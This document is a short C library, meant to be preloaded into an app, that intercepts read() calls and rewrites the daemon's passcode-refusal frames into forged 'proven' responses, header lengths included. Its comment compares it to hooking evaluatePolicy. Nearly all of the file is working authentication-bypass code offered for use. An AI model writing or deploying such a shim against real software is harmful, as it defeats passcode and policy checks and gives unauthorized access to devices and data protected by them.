/* SPDX-License-Identifier: Apache-2.0 */

/* Preloaded into an app, this library turns every failure reported by the daemon into a proof of the passcode, like a hook on
   evaluatePolicy. A refusal is [1, id, [0, {...}]]. It becomes [1, id, [12, [2]]], "proven", which is shorter: the frame's
   header, which is read with it, gets the new length. */

#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>
#include <unistd.h>

ssize_t read(int fd, void *buffer, size_t count) {
    static ssize_t (*real)(int, void *, size_t);
    if (!real) real = dlsym(RTLD_NEXT, "read");
    ssize_t got = real(fd, buffer, count);
    unsigned char *frame = buffer;
    size_t length = got < 0 ? 0 : (size_t)got;
    if (length < 45 || frame[0] != 1 || ((size_t)frame[3] << 8 | frame[4]) != length - 5) return got;
    if (frame[5] != 0x83 || frame[6] != 1) return got;
    size_t id = frame[7] < 24 ? 1 : frame[7] == 24 ? 2 : 3;
    unsigned char *body = frame + 7 + id;
    if (body[0] != 0x82 || body[1] != 0 || body[2] >> 5 != 5) return got;
    static const unsigned char proven[] = {0x82, 12, 0x81, 2};
    memcpy(body, proven, sizeof proven);
    frame[3] = 0;
    frame[4] = (unsigned char)(2 + id + sizeof proven);
    return 5 + frame[4];
}
